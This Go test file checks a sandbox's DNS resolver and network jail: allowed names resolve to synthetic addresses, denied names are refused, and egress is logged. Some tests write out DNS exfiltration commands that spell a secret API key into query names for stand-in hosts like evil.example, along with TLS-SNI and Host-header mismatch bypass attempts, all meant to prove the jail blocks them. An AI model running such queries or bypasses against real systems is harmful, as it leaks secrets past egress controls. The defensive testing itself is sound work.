package tests

import (
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// The jail's resolver: programs that resolve names themselves, with no
// proxy variables, get synthetic addresses for allowed names (which the
// capture decides by the name) and NXDOMAIN for the rest; nothing is
// forwarded anywhere.

// dnsgoGo: Go's pure resolver (GODEBUG=netdns=go), then a GET with
// Proxy: nil trusting only SSL_CERT_FILE.
const dnsgoGo = `package main

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"time"
)

func main() {
	name, host, url := os.Args[1], os.Args[2], os.Args[3]
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	addrs, err := (&net.Resolver{PreferGo: true}).LookupHost(ctx, host)
	if err != nil {
		fmt.Printf("##%s-lookup=error:%v\n", name, err)
	} else {
		fmt.Printf("##%s-lookup=%s\n", name, strings.Join(addrs, ","))
	}
	if url == "-" {
		return
	}
	pool := x509.NewCertPool()
	pem, _ := os.ReadFile(os.Getenv("SSL_CERT_FILE"))
	pool.AppendCertsFromPEM(pem)
	c := &http.Client{Timeout: 15 * time.Second, Transport: &http.Transport{Proxy: nil, TLSClientConfig: &tls.Config{RootCAs: pool}}}
	clean := func(s string) string { return strings.TrimSpace(strings.NewReplacer("\t", " ", "\n", " ", "\r", " ").Replace(s)) }
	r, err := c.Get(url)
	if err != nil {
		fmt.Printf("@@%s\t1\t000 000\t\t%s\n", name, clean(err.Error()))
		return
	}
	b, _ := io.ReadAll(r.Body)
	fmt.Printf("@@%s\t0\t%d 000\t%s\t\n", name, r.StatusCode, clean(string(b)))
}
`

// dnsnodeJS: Node's dns.lookup (getaddrinfo), then its built-in fetch.
const dnsnodeJS = `
const dns = require('dns');
const [name, host, url] = process.argv.slice(2);
const clean = s => String(s).replace(/[\t\r\n]/g, ' ').trim();
const out = (code, status, body, err) => console.log(['@@' + name, code, status + ' 000', clean(body), clean(err)].join('\t'));
dns.lookup(host, {all: true}, (err, addrs) => {
	console.log('##' + name + '-lookup=' + (err ? 'error:' + err.code : addrs.map(a => a.address).join(',')));
	if (url === '-') return;
	fetch(url, {signal: AbortSignal.timeout(15000)})
		.then(r => r.text().then(b => out(0, r.status, b, '')))
		.catch(e => out(1, '000', '', (e.cause && (e.cause.code || e.cause.message)) || e.message));
});
`

// dnspyPy: Python's socket.getaddrinfo, then a TLS connection to the
// address it returned (the server name sent as the URL's host).
const dnspyPy = `
import socket, ssl, sys, os
name, host, path = sys.argv[1:4]
try:
    infos = socket.getaddrinfo(host, 443, socket.AF_INET, socket.SOCK_STREAM)
    addr = infos[0][4][0]
    print("##%s-lookup=%s" % (name, ",".join(sorted({i[4][0] for i in infos}))))
except socket.gaierror as e:
    print("##%s-lookup=gaierror:%s" % (name, e.args[0]))
    sys.exit(0)
if path == "-":
    sys.exit(0)
try:
    ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    with socket.create_connection((addr, 443), timeout=10) as raw:
        with ctx.wrap_socket(raw, server_hostname=host) as s:
            s.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (path, host)).encode())
            data = b""
            while True:
                b = s.recv(4096)
                if not b:
                    break
                data += b
    head, _, body = data.partition(b"\r\n\r\n")
    status = head.split(b" ")[1].decode()
    print("@@%s\t0\t%s 000\t%s\t" % (name, status, body.decode().strip()))
except Exception as e:
    print("@@%s\t1\t000 000\t\t%s" % (name, str(e).replace("\t", " ").replace("\n", " ")))
`

// buildGoIn builds a one-file Go program into the project, for the
// runner, with cgo off (the resolver under test is Go's own).
func buildGoIn(t *testing.T, s *Sandbox, name, src string) {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "main.go"), []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(dir, "go.mod"), []byte("module "+name+"\n\ngo 1.21\n"), 0o644)
	out := filepath.Join(s.Project, name)
	build := exec.Command("go", "build", "-o", out, ".")
	build.Dir = dir
	build.Env = append(os.Environ(), "CGO_ENABLED=0", "GOFLAGS=-mod=mod")
	if msg, err := build.CombinedOutput(); err != nil {
		t.Fatalf("building %s: %v\n%s", name, err, msg)
	}
	s.chownUp(out)
}

// synthetic reports whether every comma-separated address of a lookup
// result is one of the resolver's synthetic IPv4 addresses.
func synthetic(s string) bool { return inPrefix(s, "198.18.0.0/15") }

// synthetic6 is synthetic for the IPv6 ones.
func synthetic6(s string) bool { return inPrefix(s, "fd6a:6169:6c00::/64") }

func inPrefix(s, prefix string) bool {
	if s == "" {
		return false
	}
	for _, a := range strings.Split(s, ",") {
		ip, err := netip.ParseAddr(strings.TrimSpace(a))
		if err != nil || !netip.MustParsePrefix(prefix).Contains(ip) {
			return false
		}
	}
	return true
}

// digSh defines `dq KEY ARGS...` for scripts run in the jail: dig's
// status and answers as "##KEY=STATUS ANSWERS".
const digSh = `
dq() {
	k=$1; shift
	o=$(dig +time=3 +tries=1 "$@" 2>&1)
	st=$(printf '%s\n' "$o" | sed -n 's/.*status: \([A-Z]*\).*/\1/p' | head -n1)
	an=$(dig +time=3 +tries=1 +short "$@" 2>/dev/null | grep -v '^;' | tr '\n' ' ' | sed 's/ *$//')
	echo "##$k=${st:-none} $an"
}
`

// TestDNSResolvesAllowedNames: getent, dig (UDP and TCP), nslookup, Go's
// pure resolver, Node's dns.lookup and Python's getaddrinfo resolve an
// allowed name to a synthetic address and reach the server behind it
// with no proxy variables, over IPv4 and IPv6; denied and unknown names
// are NXDOMAIN, logged; other types get an empty answer.
func TestDNSResolvesAllowedNames(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		n := setupNet(t, s, "")
		buildGoIn(t, s, "dnsgo", dnsgoGo)
		s.WriteFile(s.Project+"/dnsnode.js", dnsnodeJS, 0o644)
		s.WriteFile(s.Project+"/dnspy.py", dnspyPy, 0o644)
		r := s.Sh(probeSh + digSh + unsetProxy + `
			echo session=$JAIL_SESSION
			echo "##getent-ok=$(getent ahosts api.allowed.test | awk '$1 !~ /:/ {print $1; exit}')"
			getent hosts evil.test >/dev/null; echo "##getent-evil=$?"
			getent hosts unknown.test >/dev/null; echo "##getent-unknown=$?"
			dq dig-ok api.allowed.test
			dq dig-tcp +tcp API.Allowed.Test
			dq dig-aaaa api.allowed.test AAAA
			dq dig-mx sub.allowed.test MX
			dq dig-evil evil.test
			dq dig-tcp-unknown +tcp unknown.test
			dq dig-public @9.9.9.9 api.allowed.test
			nslookup api.allowed.test >/tmp/ns.out 2>&1; echo "##ns-ok=$? $(grep -A1 '^Name:' /tmp/ns.out | sed -n 's/^Address: *//p' | head -n1)"
			nslookup unknown.test >/tmp/ns.out 2>&1; echo "##ns-unknown=$? $(grep -c NXDOMAIN /tmp/ns.out)"
			GODEBUG=netdns=go ./dnsgo go api.allowed.test https://api.allowed.test/dns-go
			GODEBUG=netdns=go ./dnsgo go-unknown unknown.test -
			node dnsnode.js node api.allowed.test https://api.allowed.test/dns-node
			node dnsnode.js node-evil evil.test -
			python3 dnspy.py py api.allowed.test /dns-py
			python3 dnspy.py py-unknown unknown.test -
			probe curl https://sub.allowed.test/dns-curl
			probe curl-plain http://plain.allowed.test/dns-plain
			probe curl-v6 -6 https://api.allowed.test/dns-v6
			echo "##getent-v6=$(getent hosts api.allowed.test | awk '{print $1}')"`)
		kv := kvs(r)
		wantKV(t, r, "getent-ok", synthetic, "a synthetic address")
		for _, k := range []string{"getent-evil", "getent-unknown"} {
			wantKV(t, r, k, is("2"), "exit 2 (not found)")
		}
		for _, k := range []string{"dig-ok", "dig-tcp", "dig-public"} {
			wantKV(t, r, k, func(v string) bool { st, an, _ := strings.Cut(v, " "); return st == "NOERROR" && synthetic(an) }, "NOERROR with a synthetic address")
		}
		if kv["dig-ok"] != kv["getent-ok"] && "NOERROR "+kv["getent-ok"] != kv["dig-ok"] {
			t.Errorf("the same name got two addresses: getent %q, dig %q", kv["getent-ok"], kv["dig-ok"])
		}
		wantKV(t, r, "dig-aaaa", func(v string) bool { st, an, _ := strings.Cut(v, " "); return st == "NOERROR" && synthetic6(an) }, "NOERROR with a synthetic IPv6 address")
		wantKV(t, r, "getent-v6", synthetic6, "a synthetic IPv6 address")
		wantKV(t, r, "dig-mx", is("NOERROR "), "NOERROR with no answer")
		for _, k := range []string{"dig-evil", "dig-tcp-unknown"} {
			wantKV(t, r, k, is("NXDOMAIN "), "NXDOMAIN")
		}
		wantKV(t, r, "ns-ok", func(v string) bool { c, a, _ := strings.Cut(v, " "); return c == "0" && synthetic(a) }, "exit 0 and a synthetic address")
		wantKV(t, r, "ns-unknown", func(v string) bool { return strings.HasPrefix(v, "1 ") && v != "1 0" }, "exit 1 with NXDOMAIN")
		wantKV(t, r, "py-lookup", synthetic, "a synthetic address")
		for _, k := range []string{"go-lookup", "node-lookup"} {
			wantKV(t, r, k, func(v string) bool {
				v4, v6, _ := strings.Cut(v, ",")
				return synthetic(v4) && synthetic6(v6)
			}, "a synthetic IPv4 and a synthetic IPv6 address")
		}
		wantKV(t, r, "go-unknown-lookup", func(v string) bool { return strings.Contains(v, "no such host") }, "no such host")
		wantKV(t, r, "node-evil-lookup", is("error:ENOTFOUND"), "ENOTFOUND")
		wantKV(t, r, "py-unknown-lookup", func(v string) bool { return strings.HasPrefix(v, "gaierror:") }, "gaierror")
		ps := probes(t, r)
		wantOK(t, getProbe(t, ps, r, "go"), "/dns-go")
		wantOK(t, getProbe(t, ps, r, "node"), "/dns-node")
		wantOK(t, getProbe(t, ps, r, "py"), "/dns-py")
		wantOK(t, getProbe(t, ps, r, "curl"), "/dns-curl")
		wantOK(t, getProbe(t, ps, r, "curl-plain"), "/dns-plain")
		wantOK(t, getProbe(t, ps, r, "curl-v6"), "/dns-v6")
		if got := n.Trap.Paths(); len(got) > 0 {
			t.Errorf("refused names reached the trap server: %v", got)
		}
		ds := decisions(t, s, sessionOf(t, r))
		for _, want := range []struct{ method, host, path, verdict, reason string }{
			{"GET", "api.allowed.test", "/dns-go", "allow", ""},
			{"GET", "api.allowed.test", "/dns-node", "allow", ""},
			{"GET", "api.allowed.test", "/dns-py", "allow", ""},
			{"GET", "sub.allowed.test", "/dns-curl", "allow", ""},
			{"GET", "api.allowed.test", "/dns-v6", "allow", ""},
			{"DNS", "evil.test", "", "deny", "denied by network.deny"},
			{"DNS", "unknown.test", "", "deny", "not in network.allow"},
		} {
			d, ok := findDecision(ds, want.host, want.path)
			if want.method == "DNS" {
				d, ok = findMethod(ds, "DNS", want.host)
			}
			if !ok || d.Verdict != want.verdict || !strings.Contains(d.Reason, want.reason) {
				t.Errorf("decision log: want %s %s %s%s (%s); got %v, in:\n%s", want.verdict, want.method, want.host, want.path, want.reason, d, dumpDecisions(ds))
			}
		}
		if c := countMethod(ds, "DNS", "unknown.test"); c != 1 {
			t.Errorf("unknown.test was refused %d times in the log, want once:\n%s", c, dumpDecisions(ds))
		}
		for _, d := range ds {
			if strings.HasPrefix(d.Host, "198.1") || strings.HasPrefix(d.Host, "fd6a") {
				t.Errorf("a decision names a synthetic address instead of its name: %v", d)
			}
		}
	})
}

func findMethod(ds []decision, method, host string) (decision, bool) {
	for _, d := range ds {
		if d.Method == method && d.Host == host {
			return d, true
		}
	}
	return decision{}, false
}

func countMethod(ds []decision, method, host string) int {
	n := 0
	for _, d := range ds {
		if d.Method == method && d.Host == host {
			n++
		}
	}
	return n
}

// udpTrap listens for UDP on the host's loopback and counts datagrams.
func udpTrap(t *testing.T) (port int, got *atomic.Int64) {
	t.Helper()
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { pc.Close() })
	got = new(atomic.Int64)
	go func() {
		b := make([]byte, 2048)
		for {
			if _, _, err := pc.ReadFrom(b); err != nil {
				return
			}
			got.Add(1)
		}
	}()
	return pc.LocalAddr().(*net.UDPAddr).Port, got
}

// udpSendPy: one datagram to HOST:PORT on a connected socket, then a
// short wait for an answer; prints the errno of the first failure.
const udpSendPy = `
import errno, socket, sys
key, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
try:
    s.connect((host, port))
    s.send(b"\x00\x01quic-initial")
    s.recv(64)
    print("##%s=answered" % key)
except socket.timeout:
    print("##%s=timeout" % key)
except OSError as e:
    print("##%s=%s" % (key, errno.errorcode.get(e.errno, str(e.errno))))
`

// TestDNSLeaksNothing: a query carrying a secret (a placeholder spelled
// into a name under an allowed wildcard, asked of the jail's resolver and
// of the host's loopback and a public resolver) is NXDOMAIN and reaches
// nothing: a UDP server on the host's loopback gets no datagram, and the
// log holds the refusal. Other UDP fails at once: to a public address and
// the host's address with EPERM, to 127.0.0.1 (the jail's own loopback)
// with ECONNREFUSED.
func TestDNSLeaksNothing(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		setupNet(t, s, "")
		port, got := udpTrap(t)
		real := "plain-" + randFrom(alnumChars, 24)
		s.Env = append(s.Env, "MY_API_KEY="+real)
		s.WriteFile(s.Project+"/udpsend.py", udpSendPy, 0o644)
		hostIP := hostIPv4()
		if hostIP == "" {
			t.Fatalf("this machine has no non-loopback IPv4 address to test against")
		}
		start := time.Now()
		r := s.Sh(digSh + unsetProxy + fmt.Sprintf(`
			echo session=$JAIL_SESSION
			printf %%s "$MY_API_KEY" > secret
			echo "##placeholder=$(cat secret)"
			dq secret $(cat secret).leak.allowed.test
			dq secret-tcp +tcp $(cat secret).leak.allowed.test
			dq secret-public @8.8.8.8 $(cat secret).leak.allowed.test
			dq secret-evil $(cat secret).evil.example
			dq secret-host -p %[1]d @127.0.0.1 $(cat secret).evil.example
			dq secret-hostip -p %[1]d @%[2]s $(cat secret).evil.example
			getent hosts $(cat secret).leak.allowed.test >/dev/null; echo "##secret-getent=$?"
			python3 udpsend.py udp-public 8.8.8.8 443
			python3 udpsend.py udp-hostip %[2]s %[1]d
			python3 udpsend.py udp-loopback 127.0.0.1 %[1]d
			python3 udpsend.py udp-synthetic 198.18.0.1 443`, port, hostIP))
		if elapsed := time.Since(start); elapsed > 60*time.Second {
			t.Errorf("the script took %v: refused UDP should fail at once", elapsed)
		}
		kv := kvs(r)
		ph := kv["placeholder"]
		if ph == "" || ph == real || !strings.Contains(ph, "jail") {
			t.Fatalf("the secret inside is %q, want its placeholder:\n%s", ph, r)
		}
		for _, k := range []string{"secret", "secret-tcp", "secret-public", "secret-evil"} {
			wantKV(t, r, k, is("NXDOMAIN "), "NXDOMAIN")
		}
		for _, k := range []string{"secret-host", "secret-hostip"} {
			wantKV(t, r, k, is("none "), "no answer (the jail's loopback has no server there; the host's address is unreachable)")
		}
		wantKV(t, r, "secret-getent", is("2"), "exit 2 (not found)")
		wantKV(t, r, "udp-public", is("EPERM"), "EPERM (refused at once)")
		wantKV(t, r, "udp-hostip", is("EPERM"), "EPERM (refused at once)")
		wantKV(t, r, "udp-synthetic", is("EPERM"), "EPERM (refused at once)")
		wantKV(t, r, "udp-loopback", is("ECONNREFUSED"), "ECONNREFUSED (the jail's own loopback)")
		time.Sleep(200 * time.Millisecond)
		if c := got.Load(); c != 0 {
			t.Errorf("the host's UDP server on 127.0.0.1:%d got %d datagrams from inside the jail", port, c)
		}
		ds := decisions(t, s, sessionOf(t, r))
		var refused []decision
		for _, d := range ds {
			if d.Method == "DNS" && d.Rule == "secret" {
				refused = append(refused, d)
			}
			if strings.Contains(d.raw["host"].(string), real) || strings.Contains(d.Reason, real) {
				t.Errorf("the log holds the real value: %v", d)
			}
		}
		if len(refused) == 0 || refused[0].Verdict != "deny" || !strings.Contains(refused[0].Reason, "MY_API_KEY") {
			t.Errorf("decision log: want the query carrying MY_API_KEY refused as a secret; got %v in:\n%s", refused, dumpDecisions(ds))
		}
		if log := decisionLog(s); strings.Contains(log, real) {
			t.Errorf("the decision log holds the real value")
		}
	})
}

// TestDNSSyntheticAddressChecked: a client that resolved one allowed name
// and then names another at its address (TLS server name, Host header)
// is refused and logged, and so is a connection to a synthetic address
// the resolver gave no name; the servers behind see nothing.
func TestDNSSyntheticAddressChecked(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		n := setupNet(t, s, "")
		r := s.Sh(probeSh + unsetProxy + `
			echo session=$JAIL_SESSION
			a=$(getent ahosts plain.allowed.test | awk '$1 !~ /:/ {print $1; exit}')
			a6=$(getent hosts plain.allowed.test | awk '{print $1}')
			echo "##addr=$a"
			echo "##addr6=$a6"
			probe tls-mismatch-v6 --resolve "api.allowed.test:443:[$a6]" https://api.allowed.test/attack-sni-v6
			probe unassigned-v6 --connect-timeout 5 --resolve "api.allowed.test:443:[fd6a:6169:6c00::ffff]" https://api.allowed.test/attack-unassigned-v6
			probe tls-mismatch --resolve api.allowed.test:443:$a https://api.allowed.test/attack-sni
			probe host-mismatch -H 'Host: api.allowed.test' http://$a/attack-host
			probe literal-host http://$a/attack-literal
			probe unassigned --connect-timeout 5 https://198.19.255.254/attack-unassigned
			probe unassigned-name --connect-timeout 5 --resolve api.allowed.test:443:198.19.255.253 https://api.allowed.test/attack-unassigned-name
			probe control http://plain.allowed.test/control
			probe socks-local -x socks5://127.0.0.1:1080 https://api.allowed.test/socks-local
			probe socks-unassigned -x socks5://127.0.0.1:1080 --connect-timeout 5 http://198.19.255.251/attack-socks`)
		wantKV(t, r, "addr", synthetic, "a synthetic address")
		wantKV(t, r, "addr6", synthetic6, "a synthetic IPv6 address")
		addr := kvs(r)["addr"]
		ps := probes(t, r)
		wantOK(t, getProbe(t, ps, r, "control"), "/control")
		// curl resolves a socks5:// (not socks5h://) target itself and asks
		// for the synthetic address: the proxy serves it as the name.
		wantOK(t, getProbe(t, ps, r, "socks-local"), "/socks-local")
		for _, name := range []string{"socks-unassigned", "tls-mismatch", "host-mismatch", "literal-host", "unassigned", "unassigned-name", "tls-mismatch-v6", "unassigned-v6"} {
			wantNoRoute(t, getProbe(t, ps, r, name))
		}
		for _, u := range []*upstream{n.API, n.Plain, n.Trap} {
			if got := u.SawPrefix("/attack"); len(got) > 0 {
				t.Errorf("a refused connection reached a server: %v", got)
			}
		}
		ds := decisions(t, s, sessionOf(t, r))
		mismatch := 0
		for _, d := range ds {
			if d.Method == "CAPTURE" && d.Verdict == "deny" && d.Host == "plain.allowed.test" &&
				(strings.HasSuffix(d.Reason, "resolved to "+addr) || strings.HasSuffix(d.Reason, "resolved to "+kvs(r)["addr6"])) {
				mismatch++
			}
		}
		if mismatch < 4 {
			t.Errorf("decision log: want 4 connections to %s naming another host refused; got %d in:\n%s", addr, mismatch, dumpDecisions(ds))
		}
		if d, ok := findMethod(ds, "CONNECT", "198.19.255.251"); !ok || d.Scheme != "socks5" || d.Verdict != "deny" || d.Reason != "synthetic address given to no name" {
			t.Errorf("decision log: want the SOCKS request for 198.19.255.251 refused; got %v in:\n%s", d, dumpDecisions(ds))
		}
		for _, ip := range []string{"198.19.255.254", "198.19.255.253", "fd6a:6169:6c00::ffff"} {
			if d, ok := findMethod(ds, "CAPTURE", ip); !ok || d.Verdict != "deny" || d.Reason != "synthetic address given to no name" {
				t.Errorf("decision log: want the connection to %s refused; got %v in:\n%s", ip, d, dumpDecisions(ds))
			}
		}
	})
}
